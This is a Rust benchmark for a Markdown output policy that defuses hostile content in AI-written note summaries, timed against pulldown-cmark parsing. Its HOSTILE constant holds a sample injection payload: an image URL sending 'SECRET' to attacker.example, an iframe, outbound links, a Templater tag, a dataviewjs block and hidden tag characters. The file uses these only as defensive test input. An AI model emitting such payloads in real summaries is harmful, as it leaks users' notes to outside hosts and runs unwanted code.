//! The output policy's cost per summary, against parsing the same text with pulldown-cmark
//! (the least any Markdown-aware policy must do) in the same run.
//!
//! The summaries: the offline engine's summaries of every note of the vendored real vault
//! (`tests/data/obsidian-tasks-docs`, text the policy was not tuned on) and of the test
//! fixture vault, cycled to 1,000; then the same 1,000 with every tenth made hostile (a remote
//! image, HTML, links out, a `dataviewjs` block, a Templater tag, tag characters), where the
//! policy has work and goes a second round. Also timed: collecting the links of each
//! summarized note (`SourceLinks::from_text`), which a summary's write pays once.
//!
//! Also timed: the whole check a write makes (the policy, the section composed into its note,
//! the verifier of the bytes written, `compose_and_check`), and, once each, hostile 10 MiB
//! texts as a note's source and as an answer (a URL and 10 million `)`, `a.a.a.…`, `a_a_a_…`,
//! `[[` and backticks by the million), each against a pulldown-cmark parse of the same bytes.
//!
//! Figures: best of 7 passes over all 1,000, variants taking turns, per summary.
//!
//! Run: `cargo bench --bench output_policy`

use std::path::Path;
use std::time::{Duration, Instant};

use pulldown_cmark::Parser;
use vaultsum_core::llm::local::{summarize, LocalOptions};
use vaultsum_core::vault::markdown::parser_options;
use vaultsum_core::vault::{compose_and_check, OutputPolicy, SourceLinks};

const SUMMARIES: usize = 1_000;
const PASSES: usize = 7;

const HOSTILE: &str = "\n- ![chart](https://attacker.example/p.png?d=SECRET)\n\
- <iframe src=\"https://attacker.example/f\"></iframe> and [more](https://attacker.example/?d=1)\n\
- <% tp.system.prompt() %> `= this.file.name`\u{E0041}\u{E0042}\n\n\
```dataviewjs\ndv.pages()\n```\n";

fn notes(root: &Path) -> Vec<String> {
    let mut found: Vec<_> = walkdir::WalkDir::new(root)
        .sort_by_file_name()
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.path().extension().is_some_and(|x| x == "md"))
        .filter_map(|e| std::fs::read_to_string(e.path()).ok())
        .collect();
    found.retain(|text| !text.trim().is_empty());
    found
}

fn best<F: FnMut()>(mut run: F, times: &mut Vec<Duration>) {
    let start = Instant::now();
    run();
    times.push(start.elapsed());
}

fn per_summary(times: &[Duration]) -> f64 {
    times.iter().min().unwrap().as_secs_f64() * 1e6 / SUMMARIES as f64
}

fn main() {
    if std::env::args().any(|a| a == "--list") {
        return; // `cargo test --benches` asks for a list; this bench has no criterion cases
    }
    let manifest = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut sources = notes(&manifest.join("tests/data/obsidian-tasks-docs"));
    sources.extend(notes(&manifest.join("vault-fixture")));
    let options = LocalOptions::default();
    let pairs: Vec<(String, String)> = sources
        .iter()
        .map(|note| (note.clone(), summarize(note, &options).markdown))
        .filter(|(_, summary)| !summary.trim().is_empty())
        .collect();
    let cases: Vec<(String, SourceLinks, String)> = (0..SUMMARIES)
        .map(|i| {
            let (note, summary) = &pairs[i % pairs.len()];
            (note.clone(), SourceLinks::from_text(note), summary.clone())
        })
        .collect();
    let hostile: Vec<String> = cases
        .iter()
        .enumerate()
        .map(|(i, (_, _, summary))| {
            if i % 10 == 0 {
                format!("{summary}{HOSTILE}")
            } else {
                summary.clone()
            }
        })
        .collect();
    let bytes: usize = cases.iter().map(|(_, _, s)| s.len()).sum();
    let policy = OutputPolicy::default();

    let (mut parse, mut defuse, mut parse_hostile, mut defuse_hostile, mut links) =
        (vec![], vec![], vec![], vec![], vec![]);
    let mut checked = vec![];
    let mut live_found = 0;
    let mut changed = 0;
    for _ in 0..PASSES {
        best(
            || {
                for (_, _, summary) in &cases {
                    let events = Parser::new_ext(summary, parser_options())
                        .into_offset_iter()
                        .count();
                    std::hint::black_box(events);
                }
            },
            &mut parse,
        );
        best(
            || {
                changed = 0;
                for (_, source, summary) in &cases {
                    let out = policy.summary(summary, source);
                    changed += usize::from(!out.defused().is_empty());
                    std::hint::black_box(out);
                }
            },
            &mut defuse,
        );
        best(
            || {
                for summary in &hostile {
                    let events = Parser::new_ext(summary, parser_options())
                        .into_offset_iter()
                        .count();
                    std::hint::black_box(events);
                }
            },
            &mut parse_hostile,
        );
        best(
            || {
                for ((_, source, _), summary) in cases.iter().zip(&hostile) {
                    std::hint::black_box(policy.summary(summary, source));
                }
            },
            &mut defuse_hostile,
        );
        best(
            || {
                for (note, _, _) in &cases {
                    std::hint::black_box(SourceLinks::from_text(note));
                }
            },
            &mut links,
        );
        best(
            || {
                live_found = 0;
                for ((note, source, _), summary) in cases.iter().zip(&hostile) {
                    let defused = policy.summary(summary, source);
                    if let Ok((_, live)) = compose_and_check(note.as_bytes(), &defused) {
                        live_found += live.len();
                    }
                }
            },
            &mut checked,
        );
    }
    println!(
        "output policy: {SUMMARIES} offline summaries of {} real notes ({} bytes on average), best of {PASSES}",
        pairs.len(),
        bytes / SUMMARIES
    );
    let (p, d) = (per_summary(&parse), per_summary(&defuse));
    println!(
        "  legitimate:     policy {d:.1} us/summary, pulldown-cmark parse {p:.1} us: {:.2}x ({changed} of {SUMMARIES} changed)",
        d / p
    );
    let (p, d) = (per_summary(&parse_hostile), per_summary(&defuse_hostile));
    println!(
        "  1 in 10 hostile: policy {d:.1} us/summary, pulldown-cmark parse {p:.1} us: {:.2}x",
        d / p
    );
    println!(
        "  source links of the summarized note: {:.1} us/note",
        per_summary(&links)
    );
    let (p, c) = (per_summary(&parse_hostile), per_summary(&checked));
    println!(
        "  policy + composition + verifier (1 in 10 hostile): {c:.1} us/summary, {:.2}x the parse ({live_found} live found)",
        c / p
    );
    hostile_ten_mib(&policy);
}

/// Hostile 10 MiB texts, as a note's source and as an answer, against a parse of the same bytes.
fn hostile_ten_mib(policy: &OutputPolicy) {
    const SIZE: usize = 10 * 1024 * 1024;
    let fill = |unit: &str, head: &str| {
        let mut text = String::from(head);
        while text.len() + unit.len() <= SIZE {
            text.push_str(unit);
        }
        text
    };
    let texts = [
        (
            "a URL and `)` to 10 MiB",
            fill(")", "See https://a.example/x"),
        ),
        ("`a.` to 10 MiB", fill("a.", "")),
        ("`a_` to 10 MiB", fill("a_", "")),
        ("`[[` to 10 MiB", fill("[[", "")),
        ("backticks and `$` to 10 MiB", fill("`$", "")),
        ("`::(` to 10 MiB", fill("::(", "")),
    ];
    println!("hostile 10 MiB texts (seconds; pulldown-cmark parse of the same bytes in brackets):");
    for (name, text) in texts {
        let start = Instant::now();
        std::hint::black_box(Parser::new_ext(&text, parser_options()).count());
        let parse = start.elapsed().as_secs_f64();
        let start = Instant::now();
        let source = SourceLinks::from_text(&text);
        let links = start.elapsed().as_secs_f64();
        let start = Instant::now();
        let defused = policy.summary(&text, &source);
        let answer = start.elapsed().as_secs_f64();
        let start = Instant::now();
        let live = compose_and_check(b"A note.\n", &defused).map(|(_, live)| live.len());
        let verify = start.elapsed().as_secs_f64();
        println!(
            "  {name}: source links {links:.2} s, policy {answer:.2} s, composition + verifier {verify:.2} s ({parse:.2} s), live {live:?}"
        );
    }
}
